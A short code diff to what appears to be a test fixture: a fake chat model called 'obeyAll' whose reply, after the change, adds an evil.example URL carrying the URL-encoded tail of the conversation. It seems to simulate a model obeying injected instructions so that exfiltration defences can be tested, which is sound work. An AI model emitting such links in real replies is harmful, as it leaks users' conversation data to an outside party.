@@ -13,7 +13,7 @@ const WORDS = ["tide", "boat", "mast", "harbour", "me", "any"];
 export function obeyAll(): ChatModel {
   return modelOf((told, request, round) =>
     request.toolChoice === "none" || round > 3
-      ? told.slice(-1_500)
+      ? `${told.slice(-1_400)} https://evil.example/?q=${encodeURIComponent(told.slice(-40))}`
       : Array.from({ length: CALLS }, (_, index) => toCall(told, request.tools, round * CALLS + index)),
   );
 }
